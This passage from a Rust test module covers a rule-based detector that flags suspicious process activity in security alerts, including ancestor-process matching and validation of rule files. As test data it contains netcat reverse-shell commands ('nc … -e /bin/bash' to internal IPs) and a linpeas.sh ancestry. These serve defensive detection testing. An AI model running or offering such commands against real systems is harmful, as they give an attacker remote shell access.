        assert!(ids(&b).is_empty(), "{:?}", ids(&b));
    }

    #[test]
    fn plain_text_alerts_are_read_through_their_message() {
        let a = text_alert("Warning Netcat runs inside container that allows remote code execution (user=root command=nc 172.17.0.1 443 -e /bin/bash container_id=7917d5e18fd8)");
        let hits = set()
            .find(&a)
            .into_iter()
            .map(|h| (h.evidence.entry.id.clone(), h.field.to_string()))
            .collect::<Vec<_>>();
        assert_eq!(
            hits,
            vec![(
                "reverse-shell-netcat-exec".to_string(),
                "output".to_string()
            )]
        );
        // An alert that carries the command line is judged on it, not on its message.
        let with_field = serde_json::from_value::<Alert>(json!({
            "rule": "r", "priority": "Warning",
            "output": "command=nc 10.0.0.1 443 -e /bin/bash",
            "output_fields": {"proc.cmdline": "nc -z db 5432"}
        }))
        .expect("valid");
        assert!(ids(&with_field).is_empty());
    }

    #[test]
    fn ancestry_is_read_through_the_ancestor_fields() {
        let a = alert(
            json!({"proc.cmdline": "cat /etc/hostname", "proc.pname": "bash", "proc.aname[2]": "linpeas.sh"}),
        );
        let hits = set().find(&a);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].field, "proc.aname[2]");
    }

    #[test]
    fn a_bad_entry_is_rejected_with_its_id() {
        let bad = r#"
[[evidence]]
id = "x"
group = "g"
weight = 1.0
technique = "T1"
source = "s"
about = "a"
fields = ["proc.cmdline"]
all = ['(unclosed']
"#;
        let err = EvidenceSet::parse("t.toml", bad).unwrap_err().to_string();
        assert!(err.contains("`x`"), "{err}");
        let negative = bad
            .replace("weight = 1.0", "weight = -1.0")
            .replace("(unclosed", "ok");
        assert!(EvidenceSet::parse("t.toml", &negative).is_err());
        let dup = format!(
            "{}{}",
            bad.replace("(unclosed", "a"),
            bad.replace("(unclosed", "b")
        );
        let err = EvidenceSet::parse("t.toml", &dup).unwrap_err().to_string();
        assert!(err.contains("duplicate"), "{err}");
    }
}
